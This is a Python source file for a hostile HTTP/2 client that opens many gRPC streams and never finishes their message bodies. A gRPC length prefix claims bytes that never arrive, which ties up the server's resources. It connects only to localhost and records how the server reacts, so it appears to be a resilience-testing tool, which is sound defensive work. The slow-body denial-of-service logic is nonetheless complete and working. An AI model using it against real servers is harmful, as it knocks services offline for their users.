"""A hostile HTTP/2 client: opens gRPC calls and sends only a part of their messages."""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import threading
import time
from types import TracebackType
from typing import Self

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
_MAX_STREAMS, _INITIAL_WINDOW = 3, 4
_END_HEADERS = 4
_FRAME_BYTES = 16384
_OPEN_WINDOW = 2**31 - 1 - 65535


class HalfSent:
    """One connection with many calls, each with the beginning of a message and no end.

    A reader of its own answers settings and pings, and follows the windows that the server
    opens: the client sends as much of each message as it is let, up to ``body_bytes``.
    """

    def __init__(
        self,
        port: int,
        method: str,
        headers: dict[str, str] | None = None,
        *,
        claim_bytes: int,
        body_bytes: int,
        source: str = "127.0.0.1",
    ) -> None:
        self._method = method
        self._headers = headers or {}
        self._claim, self._body = claim_bytes, body_bytes
        self._socket = socket.create_connection(("127.0.0.1", port), source_address=(source, 0))
        self._lock = threading.Lock()
        self._next = 1
        self._window = 65535
        self._initial = 65535
        self._room: dict[int, int] = {}
        self._left: dict[int, bytes | int] = {}
        self.sent_bytes = 0
        self.ended = 0
        self.most_streams = 0
        self.closed = False
        self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        self._socket.sendall(_frame(_WINDOW, 0, 0, struct.pack(">I", _OPEN_WINDOW)))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def open(self, calls: int) -> None:
        """Begin so many calls; returns when their headers are sent, or the server hung up."""
        for _ in range(calls):
            with self._lock:
                stream, self._next = self._next, self._next + 2
                self._room[stream] = self._initial
                self._left[stream] = self._body
            if not self._send(_frame(_HEADERS, _END_HEADERS, stream, self._block())):
                return
            self._pour(stream)

    def pour(self) -> None:
        """Send what the windows let through of every call."""
        for stream in list(self._left):
            self._pour(stream)

    @property
    def held(self) -> int:
        """Calls that the server has not ended."""
        return len(self._left)

    def close(self) -> None:
        """Hang up."""
        self.closed = True
        self._socket.close()

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.close()

    def _block(self) -> bytes:
        pairs = {
            ":method": "POST",
            ":scheme": "http",
            ":path": self._method,
            ":authority": "localhost",
            "content-type": "application/grpc",
            "te": "trailers",
            **self._headers,
        }
        return b"".join(_literal(name, value) for name, value in pairs.items())

    def _pour(self, stream: int) -> None:
        while True:
            with self._lock:
                left = self._left.get(stream, 0)
                size = min(left, self._room.get(stream, 0), self._window, _FRAME_BYTES)
                if size <= 0:
                    return
                first = left == self._body
                self._left[stream] = left - size
                self._room[stream] -= size
                self._window -= size
            data = bytes(size)
            if first:  # gRPC's frame: not compressed, and a length that will never be reached
                data = (b"\0" + struct.pack(">I", self._claim) + data)[:size]
            if not self._send(_frame(_DATA, 0, stream, data)):
                return
            self.sent_bytes += size

    def _send(self, data: bytes) -> bool:
        try:
            with self._lock:
                self._socket.sendall(data)
        except OSError:
            self.closed = True
        return not self.closed

    def _read(self) -> None:
        buffer = b""
        while not self.closed:
            try:
                if not select.select([self._socket], [], [], 0.2)[0]:
                    continue
                data = self._socket.recv(65536)
            except (OSError, ValueError):
                break
            if not data:
                break
            buffer += data
            while len(buffer) >= 9:
                size = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + size:
                    break
                kind, flags = buffer[3], buffer[4]
                stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                self._take(kind, flags, stream, buffer[9 : 9 + size])
                buffer = buffer[9 + size :]
        self.closed = True

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        if kind == _SETTINGS and not flags & 1:
            for place in range(0, len(body), 6):
                name, value = struct.unpack(">HI", body[place : place + 6])
                if name == _MAX_STREAMS:
                    self.most_streams = value
                if name == _INITIAL_WINDOW:
                    with self._lock:
                        for each in self._room:
                            self._room[each] += value - self._initial
                        self._initial = value
            self._send(_frame(_SETTINGS, 1, 0, b""))
        elif kind == _PING and not flags & 1:
            self._send(_frame(_PING, 1, 0, body))
        elif kind == _WINDOW:
            with self._lock:
                step = int.from_bytes(body, "big")
                if stream:
                    self._room[stream] = self._room.get(stream, 0) + step
                else:
                    self._window += step
        elif kind == _RST or (kind == _HEADERS and flags & 1):
            with self._lock:
                if self._left.pop(stream, None) is not None:
                    self.ended += 1


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def _literal(name: str, value: str) -> bytes:
    """Return a header as HPACK's literal without indexing and without Huffman coding."""
    return b"\0" + _string(name) + _string(value)


def _string(text: str) -> bytes:
    data = text.encode()
    if len(data) < 127:
        return bytes((len(data),)) + data
    rest, size = len(data) - 127, bytearray((127,))
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    return bytes(size) + bytes((rest,)) + data


def main() -> None:
    """Attack as the JSON of the command line says, until the process is killed."""
    port, method, connections, calls, bytes_ = json.loads(sys.argv[1])
    clients = [
        HalfSent(port, method, claim_bytes=bytes_, body_bytes=bytes_ - 1)
        for _ in range(connections)
    ]
    for client in clients:
        client.open(calls)
    sys.stdout.write("half sent\n")
    sys.stdout.flush()
    while True:
        for client in clients:
            client.pour()
        time.sleep(0.02)


if __name__ == "__main__":
    main()
